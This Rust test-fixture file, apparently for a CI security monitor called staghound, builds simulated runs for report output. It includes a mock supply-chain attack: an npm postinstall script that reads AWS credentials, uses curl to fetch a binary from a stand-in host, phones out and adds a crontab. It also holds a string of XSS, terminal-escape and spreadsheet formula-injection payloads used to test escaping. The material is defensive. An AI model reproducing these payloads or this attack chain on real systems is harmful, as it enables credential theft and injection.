//! Runs to report on: a theft in a build as it would be seen, one in which every string is hostile, and one with nothing.

use prost_types::Timestamp;
use staghound_proto::v1::{
    Alert, Artifact, Credentials, Decision, EarlierEvent, Endpoint, Event, File, Finding, FindingClass, Host, Limit,
    Material, PolicyMode, Process, Response, RuleRef, Run, RunProcess, Severity, Socket, Technique, UnusedWaiver,
    Verdict, event::Object,
};

const START: i64 = 1_790_000_000;

fn at(milliseconds: i64) -> Option<Timestamp> {
    Some(Timestamp {
        seconds: START + milliseconds / 1000,
        nanos: i32::try_from(milliseconds % 1000).unwrap() * 1_000_000,
    })
}

fn strings(words: &[&str]) -> Vec<String> {
    words.iter().map(ToString::to_string).collect()
}

fn process(pid: u32, parent_pid: u32, start: i64, executable: &str, args: &[&str]) -> Process {
    Process {
        pid,
        tid: pid,
        parent_pid,
        exec_id: format!("{pid}-{}", 4_000_000 + start / 10),
        start_time: at(start),
        name: executable
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .chars()
            .take(15)
            .collect(),
        executable: executable.to_owned(),
        args: strings(args),
        cwd: "/home/ci/webshop".to_owned(),
        credentials: Some(Credentials {
            uid: 1000,
            euid: 1000,
            gid: 1000,
            egid: 1000,
            user: "ci".to_owned(),
            ..Credentials::default()
        }),
        ..Process::default()
    }
}

fn technique(id: &str, name: &str, tactics: &[&str]) -> Technique {
    Technique {
        id: id.to_owned(),
        name: name.to_owned(),
        tactics: strings(tactics),
    }
}

fn file(r#type: &str, path: &str) -> Event {
    Event {
        r#type: r#type.to_owned(),
        object: Some(Object::File(File {
            path: path.to_owned(),
            inode: 77,
            ..File::default()
        })),
        ..Event::default()
    }
}

fn connect(address: &str, port: u32, name: &str) -> Event {
    Event {
        r#type: "connect".to_owned(),
        object: Some(Object::Socket(Socket {
            family: "ipv4".to_owned(),
            protocol: "tcp".to_owned(),
            remote_address: address.to_owned(),
            remote_port: port,
            tls_server_name: name.to_owned(),
            ..Socket::default()
        })),
        ..Event::default()
    }
}

struct Rule<'a> {
    id: &'a str,
    name: &'a str,
    description: &'a str,
    remediation: &'a str,
    severity: Severity,
    techniques: Vec<Technique>,
}

struct Judged<'a> {
    decision: Decision,
    scope: &'a str,
    reason: &'a str,
    waiver: &'a str,
}

fn finding(
    (number, times): (u8, u64),
    milliseconds: i64,
    rule: Rule<'_>,
    message: &str,
    event: Event,
    (process, ancestors): (&Process, &[&Process]),
    judged: &Judged<'_>,
) -> Finding {
    Finding {
        alert: Some(Alert {
            fingerprint: format!("{number:02x}").repeat(16),
            event_time: at(milliseconds),
            boot_time_ns: 40_000_000_000_000 + u64::try_from(milliseconds).unwrap() * 1_000_000,
            rule: Some(RuleRef {
                id: rule.id.to_owned(),
                name: rule.name.to_owned(),
                description: rule.description.to_owned(),
                remediation: rule.remediation.to_owned(),
                tags: Vec::new(),
                ruleset_digest: format!("sha256:{}", "5e".repeat(32)),
            }),
            severity: rule.severity.into(),
            techniques: rule.techniques,
            message: message.to_owned(),
            event: Some(event),
            process: Some(process.clone()),
            ancestors: ancestors
                .iter()
                .map(|ancestor| Process {
                    pid: ancestor.pid,
                    name: ancestor.name.clone(),
                    executable: ancestor.executable.clone(),
                    ..Process::default()
                })
                .collect(),
            run_id: "9f86d081884c7d659a2feaa0c55ad015".to_owned(),
            count: 1,
            ..Alert::default()
        }),
        times,
        last_time: at(milliseconds + 400 * i64::try_from(times - 1).unwrap()),
        class: FindingClass::Rule.into(),
        decision: judged.decision.into(),
        scope: judged.scope.to_owned(),
        reason: judged.reason.to_owned(),
        waiver: judged.waiver.to_owned(),
    }
}

/// A dependency whose install script steals credentials, in a build that makes something as well.
#[expect(clippy::too_many_lines, reason = "a story in the order in which it happened")]
pub(crate) fn incident() -> Run {
    let sh = process(4101, 4100, 0, "/usr/bin/dash", &["sh", "-c", "npm ci && npm run build"]);
    let npm = process(4102, 4101, 40, "/usr/bin/node", &["node", "/usr/bin/npm", "ci"]);
    let mut hook = process(4131, 4102, 8200, "/usr/bin/dash", &["sh", "-c", "node postinstall.js"]);
    let mut stealer = process(4132, 4131, 8230, "/usr/bin/node", &["node", "postinstall.js"]);
    let mut curl = process(
        4133,
        4132,
        8900,
        "/usr/bin/curl",
        &[
            "curl",
            "-fsSL",
            "https://cdn.event-streem.example/u",
            "-o",
            "/tmp/.cache/upd",
        ],
    );
    let mut upd = process(4135, 4132, 9700, "/tmp/.cache/upd", &["/tmp/.cache/upd", "--daemon"]);
    let mut crontab = process(4137, 4135, 10_100, "/usr/bin/crontab", &["crontab", "-"]);
    let build = process(
        4150,
        4101,
        14_000,
        "/usr/bin/node",
        &["node", "/usr/bin/npm", "run", "build"],
    );
    let esbuild = process(
        4160,
        4150,
        14_300,
        "/home/ci/webshop/node_modules/@esbuild/linux-x64/bin/esbuild",
        &[
            "esbuild",
            "src/main.ts",
            "--bundle",
            "--minify",
            "--outfile=dist/app.js",
        ],
    );
    let git = process(
        4155,
        4150,
        14_100,
        "/usr/bin/git",
        &["git", "rev-parse", "--short", "HEAD"],
    );
    let package = "/home/ci/webshop/node_modules/event-streem";
    for process in [&mut hook, &mut stealer, &mut curl, &mut upd, &mut crontab] {
        package.clone_into(&mut process.cwd);
    }
    let third = |decision, reason| Judged {
        decision,
        scope: "third-party",
        reason,
        waiver: "",
    };
    let failed = "severity high or worse fails in scope third-party";
    let mut findings = vec![
        finding(
            (0xa1, 1),
            9400,
            Rule {
                id: "credential-access/cloud-credentials-read",
                name: "Cloud credentials were read",
                description: "A program other than the cloud's own tools opened a file that holds long-lived keys.",
                remediation: "Rotate the keys in ~/.aws/credentials now. Then give the build short-lived credentials \
                              through its CI identity (OIDC), and none while dependencies are installed.",
                severity: Severity::Critical,
                techniques: vec![technique("T1552.001", "Credentials In Files", &["credential-access"])],
            },
            "node postinstall.js read /home/ci/.aws/credentials",
            file("openat", "/home/ci/.aws/credentials"),
            (&stealer, &[&hook, &npm, &sh]),
            &third(Decision::Failed, failed),
        ),
        finding(
            (0xa2, 1),
            9720,
            Rule {
                id: "command-and-control/downloaded-executed",
                name: "A file was downloaded and run",
                description: "A file that was written by a program with connections to the outside was then executed.",
                remediation: "Pin the file by its digest and fetch it from your own mirror, or remove the dependency \
                              that fetches it. A waiver needs an owner and a date.",
                severity: Severity::High,
                techniques: vec![
                    technique("T1105", "Ingress Tool Transfer", &["command-and-control"]),
                    technique("T1204.002", "Malicious File", &["execution"]),
                ],
            },
            "/tmp/.cache/upd was written by curl and executed by node",
            file("execve", "/tmp/.cache/upd"),
            (&upd, &[&stealer, &hook, &npm, &sh]),
            &third(Decision::Failed, failed),
        ),
        finding(
            (0xa3, 3),
            10_000,
            Rule {
                id: "exfiltration/upload-by-new-executable",
                name: "An executable of this run talks to the outside",
                description: "A program that did not exist before the run has opened a connection to a public address.",
                remediation: "Look at what was sent (bytes below the network map), and block the address. Assume that \
                              everything the build could read is known to others.",
                severity: Severity::High,
                techniques: vec![technique("T1041", "Exfiltration Over C2 Channel", &["exfiltration"])],
            },
            "/tmp/.cache/upd connected to 198.51.100.23:443 (telemetry.event-streem.example)",
            connect("198.51.100.23", 443, "telemetry.event-streem.example"),
            (&upd, &[&stealer, &hook, &npm, &sh]),
            &third(Decision::Failed, failed),
        ),
        finding(
            (0xa4, 1),
            10_150,
            Rule {
                id: "persistence/crontab",
                name: "A crontab was changed",
                description: "Cron jobs run long after the build has ended, and as whoever owns the table.",
                remediation: "Remove the entry with `crontab -e` on the runner, or throw the runner away. A build has \
                              no reason to schedule anything.",
                severity: Severity::High,
                techniques: vec![technique(
                    "T1053.003",
                    "Cron",
                    &["execution", "persistence", "privilege-escalation"],
                )],
            },
            "crontab wrote /var/spool/cron/crontabs/ci",
            file("rename", "/var/spool/cron/crontabs/ci"),
            (&crontab, &[&upd, &stealer, &hook, &npm, &sh]),
            &third(Decision::Failed, failed),
        ),
        finding(
            (0xb1, 1),
            8950,
            Rule {
                id: "deviation/endpoint",
                name: "A name that no earlier run asked for",
                description: "The profile of 14 runs has no such endpoint.",
                remediation: "If it is wanted, learn it: `staghound profile merge`.",
                severity: Severity::Medium,
                techniques: Vec::new(),
            },
            "curl asked for cdn.event-streem.example",
            connect("203.0.113.7", 443, "cdn.event-streem.example"),
            (&curl, &[&stealer, &hook, &npm, &sh]),
            &third(Decision::Warned, "deviations are told in scope third-party"),
        ),
        finding(
            (0xc1, 1),
            14_310,
            Rule {
                id: "execution/binary-from-package",
                name: "A binary that a package brought was run",
                description: "The executable lies below node_modules.",
                remediation: "Build it from source, or waive it by its path.",
                severity: Severity::Medium,
                techniques: vec![technique("T1129", "Shared Modules", &["execution"])],
            },
            "npm ran /home/ci/webshop/node_modules/@esbuild/linux-x64/bin/esbuild",
            file("execve", "/home/ci/webshop/node_modules/@esbuild/linux-x64/bin/esbuild"),
            (&esbuild, &[&build, &sh]),
            &Judged {
                decision: Decision::Waived,
                scope: "own-code",
                reason: "waived by esbuild-binary until 2027-01-31: vendored compiler, digest is pinned",
                waiver: "esbuild-binary",
            },
        ),
        finding(
            (0xd1, 12),
            60,
            Rule {
                id: "discovery/system-information",
                name: "System information was read",
                description: "Builds do this all the time; with others it tells a story.",
                remediation: "",
                severity: Severity::Informational,
                techniques: vec![technique("T1082", "System Information Discovery", &["discovery"])],
            },
            "node read /proc/cpuinfo",
            file("openat", "/proc/cpuinfo"),
            (&npm, &[&sh]),
            &Judged {
                decision: Decision::Tolerated,
                scope: "own-code",
                reason: "below low",
                waiver: "",
            },
        ),
    ];
    findings[4].class = FindingClass::Deviation.into();
    if let Some(alert) = &mut findings[1].alert {
        alert.earlier = vec![EarlierEvent {
            event_time: at(9100),
            event: Some(file("openat", "/tmp/.cache/upd")),
            process: Some(curl.clone()),
            ..EarlierEvent::default()
        }];
    }
    let ended = |process: &Process, finished: i64, code: i32, parent: &Process, found: &[&str]| RunProcess {
        process: Some(process.clone()),
        parent_exec_id: parent.exec_id.clone(),
        finished: at(finished),
        exit_code: Some(code),
        findings: found.iter().map(|byte| byte.repeat(16)).collect(),
        ..RunProcess::default()
    };
    let nobody = Process::default();
    let processes = vec![
        ended(&sh, 16_800, 0, &nobody, &[]),
        ended(&npm, 13_900, 0, &sh, &["d1"]),
        ended(&hook, 9990, 0, &npm, &[]),
        ended(&stealer, 9980, 0, &hook, &["a1"]),
        ended(&curl, 9650, 0, &stealer, &["b1"]),
        RunProcess {
            finished: None,
            exit_code: None,
            survived: true,
            sockets: strings(&["tcp 10.0.0.5:51422 to 198.51.100.23:443"]),
            earlier_executables: strings(&["/usr/bin/node"]),
            ..ended(&upd, 0, 0, &stealer, &["a2", "a3"])
        },
        ended(&crontab, 10_180, 0, &upd, &["a4"]),
        ended(&build, 16_700, 0, &sh, &[]),
        ended(&git, 14_120, 0, &build, &[]),
        ended(&esbuild, 16_400, 0, &build, &["c1"]),
    ];
    let endpoint =
        |process: &Process, direction: &str, (address, port): (&str, u32), name: &str, sent, received| Endpoint {
            process: process.name.clone(),
            exec_id: process.exec_id.clone(),
            direction: direction.to_owned(),
            protocol: if port == 53 { "udp" } else { "tcp" }.to_owned(),
            address: address.to_owned(),
            port,
            name: name.to_owned(),
            times: 1,
            bytes_sent: sent,
            bytes_received: received,
        };
    let endpoints = vec![
        Endpoint {
            times: 214,
            ..endpoint(
                &npm,
                "connect",
                ("192.0.2.80", 443),
                "registry.npmjs.example",
                310_220,
                48_220_114,
            )
        },
        endpoint(&npm, "resolve", ("10.0.0.2", 53), "registry.npmjs.example", 0, 0),
        endpoint(
            &curl,
            "connect",
            ("203.0.113.7", 443),
            "cdn.event-streem.example",
            812,
            2_310_144,
        ),
        Endpoint {
            times: 3,
            ..endpoint(
                &upd,
                "connect",
                ("198.51.100.23", 443),
                "telemetry.event-streem.example",
                18_442,
                96,
            )
        },
        endpoint(&esbuild, "connect", ("127.0.0.1", 41_233), "", 12, 12),
    ];
    let artifact = |path: &str, size, digest: &str, writer: &Process| Artifact {
        path: path.to_owned(),
        size,
        sha256: digest.repeat(32),
        writer: Some(writer.clone()),
        ..Artifact::default()
    };
    let artifacts = vec![
        Artifact {
            executed: true,
            from_network: true,
            removed: true,
            writer_ancestors: vec![stealer, hook, npm.clone()],
            ..artifact("/tmp/.cache/upd", 2_310_144, "3b", &curl)
        },
        Artifact {
            left: true,
            ..artifact("/home/ci/webshop/dist/app.js", 412_009, "9d", &esbuild)
        },
        Artifact {
            executed: true,
            left: true,
            from_network: true,
            ..artifact(
                "/home/ci/webshop/node_modules/@esbuild/linux-x64/bin/esbuild",
                10_104_832,
                "e2",
                &npm,
            )
        },
        Artifact {
            sha256: String::new(),
            not_hashed: "gone before it could be read".to_owned(),
            executed: true,
            removed: true,
            ..artifact("/tmp/.cache/x.sh", 0, "", &upd)
        },
    ];
    Run {
        run_id: "9f86d081884c7d659a2feaa0c55ad015".to_owned(),
        host: Some(Host {
            name: "runner-7".to_owned(),
            machine_id: "4c4c4544004b3410805ac4c04f4e3633".to_owned(),
            boot_id: "0d3cf0b6-4b9d-4b5e-8d3a-7a0f3f1f1c11".to_owned(),
            kernel: "6.18.2".to_owned(),
            agent_id: "4c4c4544004b3410805ac4c04f4e3633".to_owned(),
        }),
        agent_version: "0.1.0".to_owned(),
        materials: vec![
            Material {
                kind: "policy".to_owned(),
                path: "/home/ci/webshop/staghound/policy.yaml".to_owned(),
                digest: format!("sha256:{}", "1a".repeat(32)),
            },
            Material {
                kind: "rules".to_owned(),
                path: String::new(),
                digest: format!("sha256:{}", "5e".repeat(32)),
            },
            Material {
                kind: "profile".to_owned(),
                path: "/home/ci/webshop/staghound/profile.json".to_owned(),
                digest: format!("sha256:{}", "77".repeat(32)),
            },
        ],
        command: strings(&["sh", "-c", "npm ci && npm run build"]),
        working_directory: "/home/ci/webshop".to_owned(),
        started: at(0),
        finished: at(16_800),
        exit_code: Some(0),
        verdict: Verdict::Fail.into(),
        reasons: strings(&[
            "4 findings are above what scope third-party tolerates",
            "1 process outlived the command",
        ]),
        mode: PolicyMode::Enforce.into(),
        findings,
        processes,
        processes_not_kept: 31,
        endpoints,
        artifacts,
        limits: vec![
            Limit {
                sentence: "file_resolved was left out as asked, and what it would have reported was not seen"
                    .to_owned(),
                inconclusive: false,
            },
            Limit {
                sentence: "2 of 34 artifacts were gone before they could be hashed".to_owned(),
                inconclusive: false,
            },
        ],
        events: 48_211,
        events_lost: 0,
        responses: vec![Response {
            action: "hold artifacts".to_owned(),
            outcome: "wrote staghound-hold.json with 2 artifacts".to_owned(),
        }],
        unused_waivers: vec![UnusedWaiver {
            id: "old-gyp".to_owned(),
            owner: "build@shop.example".to_owned(),
            reason: "expired on 2026-08-31".to_owned(),
            expired: true,
        }],
        ..Run::default()
    }
}

/// Everything that has a meaning in one of the formats or on a terminal.
pub(crate) const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;x\u{7}\r\n</script><script>alert(1)</script>]]><!--&amp;<img src=x onerror=alert(2)>\
'\"|`~~~```**_[a](javascript:alert(3))# @everyone =cmd|' /C calc'!A0,\"\u{202e}gnp.\u{2066}\u{200b}\u{fffd}\u{feff}\u{fffe}\u{0}\u{85}\u{2028}";

/// The incident with hostile text in every string, and one string much too long.
pub(crate) fn hostile() -> Run {
    let mut run = incident();
    run.host = run.host.map(|mut host| {
        host.name = HOSTILE.to_owned();
        host.kernel = HOSTILE.to_owned();
        host
    });
    run.agent_version = HOSTILE.to_owned();
    run.command = vec![HOSTILE.to_owned(), "x".repeat(10_000)];
    run.working_directory = format!("/w/{HOSTILE}");
    run.reasons = vec![HOSTILE.to_owned()];
    for material in &mut run.materials {
        material.kind = HOSTILE.to_owned();
        material.path = HOSTILE.to_owned();
        material.digest = HOSTILE.to_owned();
    }
    let spoil = |process: &mut Process| {
        process.name = "</b>\u{1b}[1m\u{202e}&|`".to_owned();
        process.executable = format!("/{HOSTILE}");
        process.args = vec![HOSTILE.to_owned(), "é".repeat(50)];
        process.cwd = HOSTILE.to_owned();
        if let Some(credentials) = &mut process.credentials {
            credentials.user = HOSTILE.to_owned();
        }
    };
    for finding in &mut run.findings {
        finding.scope = HOSTILE.to_owned();
        finding.reason = HOSTILE.to_owned();
        finding.waiver = HOSTILE.to_owned();
        let alert = finding.alert.as_mut().unwrap();
        alert.message = HOSTILE.to_owned();
        alert.fingerprint.push_str(HOSTILE);
        if let Some(rule) = &mut alert.rule {
            rule.id += HOSTILE;
            rule.name = HOSTILE.to_owned();
            rule.description = HOSTILE.to_owned();
            rule.remediation = HOSTILE.to_owned();
        }
        for technique in &mut alert.techniques {
            technique.id = HOSTILE.to_owned();
            technique.name = HOSTILE.to_owned();
            technique.tactics = vec![HOSTILE.to_owned(), "execution".to_owned()];
        }
        match alert.event.as_mut().and_then(|event| event.object.as_mut()) {
            Some(Object::File(file)) => {
                file.path = format!("/w/{HOSTILE}/{HOSTILE}");
                file.new_path = HOSTILE.to_owned();
            }
            Some(Object::Socket(socket)) => {
                socket.protocol = HOSTILE.to_owned();
                socket.remote_address = HOSTILE.to_owned();
                socket.tls_server_name = HOSTILE.to_owned();
            }
            None => (),
        }
        if let Some(event) = &mut alert.event {
            event.r#type = HOSTILE.to_owned();
        }
        alert.process.iter_mut().for_each(spoil);
        alert.ancestors.iter_mut().for_each(spoil);
        alert
            .earlier
            .iter_mut()
            .filter_map(|earlier| earlier.process.as_mut())
            .for_each(spoil);
    }
    // Once each is enough of what is too long.
    run.findings[0].alert.as_mut().unwrap().message += &"y".repeat(10_000);
    run.artifacts[0].path = format!("/w/{}", "z".repeat(10_000));
    for process in &mut run.processes {
        process.process.iter_mut().for_each(spoil);
        process.sockets = vec![HOSTILE.to_owned()];
        process.earlier_executables = vec![HOSTILE.to_owned()];
        process.findings.push(HOSTILE.to_owned());
    }
    for endpoint in &mut run.endpoints {
        endpoint.process = HOSTILE.to_owned();
        endpoint.direction = HOSTILE.to_owned();
        endpoint.protocol = HOSTILE.to_owned();
        endpoint.address = HOSTILE.to_owned();
        endpoint.name = HOSTILE.to_owned();
        endpoint.bytes_sent = u64::MAX;
        endpoint.times = u64::MAX;
    }
    for artifact in &mut run.artifacts {
        artifact.path.insert_str(0, &format!("/w/{HOSTILE}/a b%2e"));
        artifact.not_hashed = HOSTILE.to_owned();
        artifact.sha256 = HOSTILE.to_owned();
        artifact.size = u64::MAX;
        artifact.writer.iter_mut().for_each(spoil);
    }
    for limit in &mut run.limits {
        limit.sentence = HOSTILE.to_owned();
        limit.inconclusive = true;
    }
    for response in &mut run.responses {
        response.action = HOSTILE.to_owned();
        response.outcome = HOSTILE.to_owned();
    }
    for waiver in &mut run.unused_waivers {
        waiver.id = HOSTILE.to_owned();
        waiver.owner = HOSTILE.to_owned();
        waiver.reason = HOSTILE.to_owned();
    }
    run.findings_not_kept = u64::MAX;
    run.processes_not_kept = u64::MAX;
    run.finished = Some(Timestamp {
        seconds: i64::MAX,
        nanos: -1,
    });
    run
}

/// A run in which nothing was found.
pub(crate) fn quiet() -> Run {
    let incident = incident();
    Run {
        run_id: "0123456789abcdef0123456789abcdef".to_owned(),
        host: incident.host,
        agent_version: incident.agent_version,
        materials: vec![Material {
            kind: "policy".to_owned(),
            path: String::new(),
            digest: format!("sha256:{}", "1a".repeat(32)),
        }],
        command: strings(&["make", "test"]),
        working_directory: incident.working_directory,
        started: at(0),
        finished: at(125_000),
        exit_code: Some(0),
        verdict: Verdict::Pass.into(),
        mode: PolicyMode::Enforce.into(),
        events: 9001,
        ..Run::default()
    }
}

/// A run with very much of everything.
pub(crate) fn huge() -> Run {
    let mut run = hostile();
    let many = |count: usize| std::iter::repeat_n((), count);
    // A few hundred of each are more than anything shows.
    run.findings = many(60).flat_map(|()| run.findings.clone()).collect();
    run.processes = many(60).flat_map(|()| run.processes.clone()).collect();
    run.endpoints = many(60).flat_map(|()| run.endpoints.clone()).collect();
    run.artifacts = many(60).flat_map(|()| run.artifacts.clone()).collect();
    run.limits = many(60).flat_map(|()| run.limits.clone()).collect();
    run.materials = many(60).flat_map(|()| run.materials.clone()).collect();
    run.responses = many(60).flat_map(|()| run.responses.clone()).collect();
    run.unused_waivers = many(60).flat_map(|()| run.unused_waivers.clone()).collect();
    run.reasons = many(60).flat_map(|()| run.reasons.clone()).collect();
    run
}
